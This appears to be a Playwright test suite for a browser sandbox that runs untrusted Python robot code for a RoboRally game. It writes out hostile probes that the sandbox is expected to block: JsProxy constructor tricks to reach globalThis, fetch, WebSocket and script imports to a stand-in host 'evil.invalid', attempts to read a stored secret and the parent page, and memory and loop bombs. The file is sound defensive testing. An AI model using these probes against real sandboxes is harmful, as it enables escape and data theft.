"""In a real Chromium the cage stops the attempts of other people's robots to harm the page."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from .conftest import PageWatch
from .page_python import run_python

EQUIPPED = """
from app import web
await web.load_pack(web.Pack.WORKSHOP)
from roborally_core.bots.caged import reply_from_text
import __main__
if getattr(__main__, "test_cage", None) is None:
    __main__.test_cage = web.Cage()
    await __main__.test_cage.start()
cage = __main__.test_cage
async def begun(source):
    try:
        reply = reply_from_text(await cage.ask("begin", source))
    except web.CageError as error:
        await cage.start()
        return ["", str(error), ""]
    return [reply.fault.kind if reply.fault else "", reply.fault.words if reply.fault else "", reply.printed]
"""
REACH = """
import gc, sys
import pyodide.code
run = pyodide.code.run_js
things = [one for one in gc.get_objects() if type(one).__name__.startswith("JsProxy")]
for code in CODES:
    try:
        print(run(code))
    except BaseException as error:
        print(type(error).__name__, str(error)[:60])
for maker in [run, *things]:
    try:
        print(maker.constructor.constructor("return globalThis")())
    except BaseException as error:
        print(type(error).__name__, str(error)[:60])
def bot(view):
    return next(view.programs())
"""
"""A robot that finds the interpreter's own way to JavaScript, and every JavaScript object there."""
RAW = """
([source, questions]) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.srcdoc = source;
    frame.onload = () => {
        const { port1, port2 } = new MessageChannel();
        const heard = [];
        const next = () => {
            if (heard.length === questions.length) { frame.remove(); done(heard); return; }
            port1.postMessage([heard.length + 1, ...questions[heard.length]]);
        };
        port1.onmessage = ({ data }) => { heard.push(data[1]); next(); };
        const script = window.cageScript;
        const patience = { start: 2000, begin: 2000, answer: 500 };
        frame.contentWindow.postMessage({ script, parts: {}, patience, most: 5000 }, "*", [port2]);
        next();
    };
    document.body.append(frame);
})
"""
"""A frame as the page makes it, but with a worker that is hostile JavaScript from its first line on."""
SOURCE = """
from app import web
from app.web import cage
from app.web.modules import folders
script = await cage._fetched(f"{folders()[0]}/cage.js", "text")
policy = cage._POLICY.format(cage.cage_mark())
head = f'<!doctype html><meta http-equiv="Content-Security-Policy" content="{policy}">'
return head + f"<script>{script}</script>"
"""


@pytest.fixture
def caged(page: Page) -> Callable[[str], list[str]]:
    """Reads a robot's source in the cage; returns the kind and words of its fault, and its printed output."""

    def begin(source: str) -> list[str]:
        found: list[str] = run_python(page, f"{EQUIPPED}\nreturn await begun({source!r})")
        return found

    return begin


def test_a_robot_answers_and_its_faults_have_lines(page: Page) -> None:
    answers = run_python(
        page,
        EQUIPPED
        + """
import roborally_core as rally
from roborally_core.bots.wire import program_from_text, view_text
seats = (rally.Seat("Ada"), rally.Seat("Ben"))
from app.boards import all_boards
boards = {key: board async for key, board in all_boards()}
game = rally.solo_game(rally.Setup("rr", seats), boards["first-shift"], b"any")
game.open_turn()
view = view_text(game.view(0))
out = []
for source in (
    "def bot(view):\\n    print('thinking')\\n    return next(view.programs())",
    "def bot(view):\\n    return 1 / 0",
    "x = (",
):
    begun = reply_from_text(await cage.ask("begin", source))
    if begun.fault:
        out.append(list(begun.fault))
        continue
    reply = reply_from_text(await cage.ask("answer", view))
    if reply.program:
        game.submit(0, program_from_text(reply.program))
    out.append([reply.printed, reply.looks, list(reply.fault or ())])
return out
""",
    )
    assert answers[0] == ["thinking\n", 0, []]
    assert answers[1] == ["", 0, ["ZeroDivisionError", "division by zero", 2]]
    assert answers[2][0] == "SyntaxError"
    assert answers[2][2] == 1


def test_hostile_robots_reach_nothing_and_the_next_one_is_answered(
    caged: Callable[[str], list[str]], page: Page, page_watch: PageWatch
) -> None:
    page_watch.expect("Content Security Policy")
    assert caged("import js")[0] == "ModuleNotFoundError"
    assert caged("import pyodide_js")[0] == "ModuleNotFoundError"
    codes = ["1 + 1", "fetch('https://evil.invalid/')", "postMessage([1, 'mine'])"]
    kind, words, printed = caged(REACH.replace("CODES", repr(codes)))
    assert (kind, words) == ("", "")
    lines = printed.splitlines()
    assert len(lines) > len(codes)
    refused = ("JsException", "AttributeError", "TypeError", "ModuleNotFoundError")
    assert all(line.startswith(refused) for line in lines), printed
    assert caged("import socket\nsocket.create_connection(('127.0.0.1', 80), 1)")[0]
    assert caged("import urllib.request")[0] == "ModuleNotFoundError"
    page.evaluate("window.ticks = 0; window.ticking = setInterval(() => window.ticks++, 50)")
    assert caged("while True: pass")[1] == "late"
    assert page.evaluate("clearInterval(ticking), ticks") > 10  # the page kept running
    assert caged("import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()")[0:2] != ["", ""]
    for bomb in ("x = []\nwhile True: x.append(bytes(50_000_000))", "x = '9' * (1 << 33)"):
        kind, words, _ = caged(bomb)
        assert kind in ("MemoryError", "OverflowError") or words in ("late", "broken", "dead")
    assert caged("def bot(view): pass")[0] == ""
    assert caged("#" * 10_000_000)[0] == "BotError"
    assert len(caged("print('x' * 10_000_000)\ndef bot(view): pass")[2]) < 5_000


LEFT_BEHIND = """
import asyncio
async def eat():
    while True: pass
asyncio.ensure_future(eat())
def bot(view): pass
"""
"""A robot that answers at once, and then goes on thinking when it should not."""


def test_tricks_with_threads_floods_exceptions_and_tasks_left_behind_end_with_their_robot(
    caged: Callable[[str], list[str]],
) -> None:
    assert caged("import threading\nthreading.Thread(target=print).start()")[0] == "RuntimeError"
    assert caged("class E(Exception):\n    def __str__(self): raise SystemExit\nraise E")[0] == "E"

    flood = "import os\nfor n in range(3000): os.write(1, b'x' * 65536)\ndef bot(view): pass"
    assert caged(flood) == ["", "", ""]
    flood = "import os\nwhile True: os.write(1, b'x' * 4096)"
    assert caged(flood)[1] in ("late", "broken")
    forged = "import roborally_core.bots.caged as c\nc.CageReply.text = lambda self: 'x' * 10**6"
    assert caged(forged)[1].startswith("broken")
    assert caged(LEFT_BEHIND) == ["", "", ""]
    assert caged("def bot(view): pass")[1] == "late"
    assert caged("def bot(view): pass") == ["", "", ""]


def test_javascript_in_the_worker_has_no_network_no_storage_and_one_answer(
    page: Page, page_watch: PageWatch
) -> None:
    page_watch.expect("Content Security Policy")
    page_watch.expect("evil.invalid")
    page.evaluate("localStorage.setItem('secret', '1')")
    source = run_python(page, EQUIPPED + SOURCE)
    probe = """
        const said = {};
        const tried = async (name, work) => {
            try { said[name] = `reached ${await work()}`; } catch (error) { said[name] = error.name; }
        };
        onmessage = () => {
            onmessage = async ({ data: [number] }) => {
                await tried("fetch", () => fetch("https://evil.invalid/"));
                await tried("home", () => fetch("%s"));
                await tried("blob", () => fetch(URL.createObjectURL(new Blob(["x"]))));
                await tried("xhr", () => new Promise((ok, no) => {
                    const asked = new XMLHttpRequest();
                    asked.open("GET", "https://evil.invalid/");
                    asked.onload = ok; asked.onerror = () => no(new TypeError());
                    asked.send();
                }));
                await tried("socket", () => new Promise((ok, no) => {
                    const socket = new WebSocket("wss://evil.invalid/");
                    socket.onopen = ok; socket.onerror = () => no(new TypeError());
                }));
                await tried("script", () => importScripts("https://evil.invalid/x.js"));
                await tried("module", () => import("https://evil.invalid/x.js"));
                await tried("eval", () => eval("1"));
                await tried("function", () => new Function("return 1")());
                await tried("database", () => new Promise((ok, no) => {
                    const asked = indexedDB.open("x");
                    asked.onsuccess = ok; asked.onerror = () => no(asked.error);
                }));
                await tried("caches", () => caches.open("x"));
                await tried("files", () => navigator.storage.getDirectory());
                await tried("locks", () => navigator.locks.request("x", () => 1));
                await tried("page", () => parent.document.title);
                await tried("store", () => localStorage.getItem("secret"));
                await tried("origin", () => location.origin);
                postMessage([number, JSON.stringify(said)]);
            };
        };
    """
    page.evaluate("(script) => { window.cageScript = script; }", probe % page.url)
    answers: list[str] = page.evaluate(RAW, [source, [["start", ""]]])
    said = json.loads(answers[0])
    assert said.pop("origin").endswith("null")
    assert [name for name, what in said.items() if what.startswith("reached")] == []
    assert len(said) == 15


@pytest.mark.parametrize(
    ("worker", "answer"),
    [
        ("onmessage = () => { postMessage([7, 'of another question']); }", "!broken"),
        ("onmessage = () => { postMessage('no answer'); }", "!broken"),
        ("onmessage = () => { postMessage([1, {}]); }", "!broken"),
        ("onmessage = () => { postMessage([1, 'x'.repeat(1e7)]); }", "!broken"),
        ("onmessage = () => { throw new Error('x'); }", "!broken"),
        ("onmessage = () => { for (;;) {} }", "!late"),
    ],
)
def test_an_answer_that_was_not_asked_for_ends_the_worker(page: Page, worker: str, answer: str) -> None:
    source = run_python(page, EQUIPPED + SOURCE)
    page.evaluate("(script) => { window.cageScript = script; }", worker)
    found: list[Any] = page.evaluate(RAW, [source, [["start", ""], ["answer", ""]]])
    assert found[0].split()[0] == answer
    assert found[1] == "!dead"
